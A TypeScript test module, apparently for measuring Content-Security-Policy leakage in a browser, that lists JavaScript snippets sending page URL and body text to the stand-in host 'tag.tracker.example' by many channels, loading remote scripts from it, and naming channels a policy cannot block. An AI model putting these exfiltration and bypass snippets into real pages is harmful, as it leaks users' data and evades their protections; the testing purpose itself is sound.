/** What a tag manager, a pixel or a hostile library does once it runs in a page: each way of loading and of sending that browsers have. */
import type { Page } from "playwright-core"

export const tracker = "tag.tracker.example"

/** Everything that stands in the page, as a tag would send it along. */
const payload = `encodeURIComponent(location.href + " " + document.body.innerText.slice(0, 300))`

export const ways: Readonly<Record<string, string>> = {
  script: `{ const s = document.createElement("script"); s.src = "https://${tracker}/tag.js"; document.head.append(s) }`,
  image: `new Image().src = "https://${tracker}/pixel?" + ${payload}`,
  fetch: `fetch("https://${tracker}/collect", { method: "POST", mode: "no-cors", body: ${payload} }).catch(() => {})`,
  "plain fetch": `fetch("http://${tracker}/collect?" + ${payload}, { mode: "no-cors" }).catch(() => {})`,
  XMLHttpRequest: `{ const x = new XMLHttpRequest(); x.open("POST", "https://${tracker}/x"); x.send(${payload}) }`,
  beacon: `navigator.sendBeacon("https://${tracker}/beacon", ${payload})`,
  WebSocket: `new WebSocket("wss://${tracker}/live")`,
  EventSource: `new EventSource("https://${tracker}/events")`,
  frame: `{ const f = document.createElement("iframe"); f.src = "http://${tracker}/frame?" + ${payload}; document.body.append(f) }`,
  object: `{ const o = document.createElement("object"); o.data = "https://${tracker}/o"; document.body.append(o) }`,
  "style sheet": `{ const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "https://${tracker}/s.css"; document.head.append(l) }`,
  font: `new FontFace("x", "url(https://${tracker}/f.woff2)").load().catch(() => {})`,
  "background image": `document.body.style.backgroundImage = "url(https://${tracker}/b.png)"`,
  media: `{ const a = document.createElement("audio"); a.src = "https://${tracker}/a.mp3"; a.load() }`,
  preload: `for (const rel of ["preload", "prefetch", "modulepreload"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = "https://${tracker}/" + rel; document.head.append(l) }`,
  form: `{ const f = document.createElement("form"); f.action = "http://${tracker}/form?" + ${payload}; f.method = "post"; f.target = "_blank"; document.body.append(f); f.submit() }`,
  worker: `new Worker("https://${tracker}/w.js")`,
  import: `import("https://${tracker}/m.js").catch(() => {})`,
}

/** What no Content-Security-Policy can forbid a script that already runs: measured and named, not judged. */
export const unblockable: Readonly<Record<string, string>> = {
  "connection hints": `for (const rel of ["preconnect", "dns-prefetch"]) { const l = document.createElement("link"); l.rel = rel; l.href = "https://${tracker}"; document.head.append(l) }`,
  WebRTC: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + SINK }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)) }`,
  // Chromium shakes hands with the host before it asks the policy, and then sends nothing; a request would be among the ways above.
  "a frame's or form's handshake": `{ const f = document.createElement("iframe"); f.src = "https://${tracker}/frame"; document.body.append(f) }`,
  "another window": `window.open("https://${tracker}/window?" + ${payload})`,
}

/** Runs it in the page by the debugger: as a tag that has already got in, whatever the policy says of inline scripts. */
export async function inject(page: Page, script: string): Promise<void> {
  // What a policy forbids may throw in the page; that is an answer too.
  await page.evaluate(`(() => { try { ${script} } catch {} })()`).catch(() => {})
  await page.waitForTimeout(400)
}
